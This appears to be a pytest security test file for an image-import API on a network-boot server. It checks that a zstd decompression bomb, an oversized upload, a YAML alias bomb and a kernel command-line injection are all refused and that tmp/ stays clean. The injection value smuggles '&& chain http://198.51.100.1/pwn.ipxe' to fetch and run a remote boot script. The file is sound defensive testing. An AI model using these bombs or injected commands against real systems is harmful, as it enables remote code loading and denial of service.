"""Hostile bundles against a real master (issue 11): bombs and injections are refused
quickly, uploads over the limit get 413, and tmp/ is left clean, also after a kill."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tarfile
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from masterproc import Master, master_process

sys.path.insert(0, str(Path(__file__).parent.parent / "unit"))

from store_helpers import Zeros, image_members, member, snapshot, write_tar

from livestrap.store.images import ImageStore
from livestrap.store.manifest import METADATA

pytestmark = [pytest.mark.integration, pytest.mark.security]

CAP = 8 << 20


def _dead_pid() -> int:
    proc = subprocess.Popen(["true"])
    proc.wait()
    return proc.pid


@pytest.fixture(scope="module")
def master(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Master]:
    """A master with an 8 MiB import limit, started over what a killed one left in tmp/."""
    data = tmp_path_factory.mktemp("hostile") / "data"
    stale = data / "tmp" / f"import-{_dead_pid()}.1-abcdef"
    stale.mkdir(parents=True)
    (stale / "root.squashfs").write_bytes(b"x" * 4096)
    (data / "tmp" / "api-upload-old.bundle").write_bytes(b"x")
    old = os.environ.get("LIVESTRAP_MAX_IMPORT_BYTES")
    os.environ["LIVESTRAP_MAX_IMPORT_BYTES"] = str(CAP)
    try:
        with master_process(data) as m:
            yield m
    finally:
        if old is None:
            del os.environ["LIVESTRAP_MAX_IMPORT_BYTES"]
        else:
            os.environ["LIVESTRAP_MAX_IMPORT_BYTES"] = old


def _tmp(m: Master) -> list[str]:
    tmp = m.data_dir / "tmp"
    return sorted(p.name for p in tmp.iterdir()) if tmp.exists() else []


def test_master_start_cleans_stale_temp_trees(master: Master) -> None:
    assert _tmp(master) == []


def _bomb(tmp_path: Path) -> bytes:
    """metadata last, after a 512 MiB member of zeros: ~20 KB of zstd."""
    raw = tmp_path / "bomb.tar"
    with raw.open("wb") as fh, tarfile.open(fileobj=fh, mode="w|") as tar:
        info = tarfile.TarInfo("img1/root.squashfs")
        info.size = 512 << 20
        tar.addfile(info, Zeros(info.size))
    out = subprocess.run(["zstd", "-q", "-c", str(raw)], capture_output=True, check=True).stdout
    raw.unlink()
    return out


def _post(m: Master, multipart: bool, body: bytes) -> httpx.Response:
    with m.admin() as c:
        if multipart:
            return c.post("/api/v1/images/import", files={"file": ("b.tar.zst", body)})
        return c.post("/api/v1/images/import", content=body)


@pytest.mark.parametrize("multipart", [False, True], ids=["raw", "multipart"])
def test_decompression_bomb_refused_fast(master: Master, tmp_path: Path, multipart: bool) -> None:
    bomb = _bomb(tmp_path)
    assert len(bomb) < 100_000
    started = time.monotonic()
    r = _post(master, multipart, bomb)
    assert r.status_code == 422, r.text
    assert "metadata.yaml must come first" in r.json()["detail"]
    assert time.monotonic() - started < 10
    assert _tmp(master) == []
    assert snapshot(ImageStore(master.data_dir)) == {}


@pytest.mark.parametrize("multipart", [False, True], ids=["raw", "multipart"])
def test_upload_over_the_limit_is_413(master: Master, multipart: bool) -> None:
    r = _post(master, multipart, os.urandom(CAP + (2 << 20)))
    assert r.status_code == 413, r.text
    assert "LIVESTRAP_MAX_IMPORT_BYTES" in r.json()["detail"]  # refused as it came in
    assert _tmp(master) == []


def _meta_text(**changes: object) -> str:
    from store_helpers import artifact_bytes, make_metadata

    from livestrap.store.manifest import dump_metadata

    return dump_metadata(make_metadata("img1", artifact_bytes("img1")).model_copy(update=changes))


def test_kernel_cmdline_injection_refused_and_boot_script_clean(
    master: Master, tmp_path: Path
) -> None:
    text = _meta_text().replace(
        "kernel_cmdline:\n- console=ttyS0\n",
        "kernel_cmdline: "
        + json.dumps(["console=ttyS0,115200n8 && chain http://198.51.100.1/pwn.ipxe #"])
        + "\n",
    )
    members = [member(f"img1/{METADATA}", text.encode()), *image_members("img1")[1:]]
    r = _post(master, False, write_tar(tmp_path / "evil.tar", members).read_bytes())
    assert r.status_code == 422, r.text
    assert "kernel options" in r.json()["detail"]
    with master.anonymous() as c:
        assert "chain http://198.51.100.1" not in c.get("/boot/ipxe").text
    assert _tmp(master) == []


def test_alias_bomb_refused(master: Master, tmp_path: Path) -> None:
    lines = ['  l0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"  l{i}: &a{i} [{','.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 9)]
    text = _meta_text().replace("spec:\n  suite: bookworm\n", "spec:\n" + "\n".join(lines) + "\n")
    members = [member(f"img1/{METADATA}", text.encode()), *image_members("img1")[1:]]
    r = _post(master, True, write_tar(tmp_path / "evil.tar", members).read_bytes())
    assert r.status_code == 422, r.text
    assert "anchors and aliases" in r.json()["detail"]
    with master.admin() as c:
        assert c.get("/api/v1/images").json() == []
